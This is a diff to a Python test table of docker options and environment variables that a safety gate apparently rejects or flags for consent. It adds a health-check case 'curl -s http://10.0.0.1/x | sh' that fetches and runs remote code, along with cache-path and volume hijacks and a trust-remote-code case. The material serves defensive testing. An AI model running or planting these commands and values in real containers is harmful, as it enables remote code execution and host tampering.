@@ -9,7 +9,7 @@ import os
 from collections.abc import Callable
 from pathlib import Path
 
-from tests.corpus_edits import env, options, serving
+from tests.corpus_edits import env, flag, options, serving
 
 CACHE = os.path.expanduser("~/.cache/catalogue-compile/local-vllm-cpu-0.32.0/tiny-cpu-docker")
 """The runner's compile-cache folder of the example the gate tests copy: a path an attacker can predict."""
@@ -109,6 +109,28 @@ DOCKER_CASES: dict[str, tuple[Callable[[Path], None], str]] = {
         options("--link", "other:alias"),
         "consent: --link: copies another container's variables into this one",
     ),
+    # after the second attacker review: a command docker runs in the container
+    "health command": (
+        options("--health-cmd", "curl -s http://10.0.0.1/x | sh"),
+        "never: --health-cmd: docker runs this command in the container",
+    ),
+    "a named volume of another container": (
+        options("-v", "corpus-open-webui:/x"),
+        "consent: --volume corpus-open-webui: a named volume the runner did not create",
+    ),
+    "a named volume by --mount": (
+        options("--mount", "type=volume,src=corpus-open-webui,dst=/x"),
+        "consent: --mount corpus-open-webui: a named volume the runner did not create",
+    ),
+    "a cache variable into a model download": (
+        env("HF_HOME", "/root/.cache/huggingface/hub/models--atk--tok/snapshots/x"),
+        "consent: HF_HOME /root/.cache/huggingface/hub/models--atk--tok/snapshots/x: points HF_HOME into the Hugging",
+    ),
+    "HOME of the recipe's choice": (env("HOME", "/srv"), "consent: HOME: decides where Python finds"),
+    "the runner's compile cache replaced": (
+        env("VLLM_CACHE_ROOT", "/tmp/vc"),
+        "never: VLLM_CACHE_ROOT: the runner sets VLLM_CACHE_ROOT itself",
+    ),
     # path variables: a container's own path, unless a bind takes it to the host; a local process's, the host's
     "path variable through a bind into credentials": (
         serving(
@@ -130,6 +152,14 @@ DOCKER_CASES: dict[str, tuple[Callable[[Path], None], str]] = {
         ),
         "never: VLLM_CACHE_ROOT /etc/cron.d: points VLLM_CACHE_ROOT at the host's /etc, a system folder",
     ),
+    "remote code outside a container": (
+        lambda f: (
+            serving(lambda s: [s.pop(k, None) for k in ("image", "container", "image_source")])(f),
+            serving(lambda s: s.update(consent=[{"option": "no container", "reason": "a local process"}]))(f),
+            flag("trust-remote-code", True)(f),
+        ),
+        "consent: --trust-remote-code: runs Python code from the model repository on your machine",
+    ),
 }
-HOST_CASES = ("path variable of a local process",)
+HOST_CASES = ("path variable of a local process", "remote code outside a container")
 """Cases about a process on the owner's machine (no image): nothing for docker to make."""
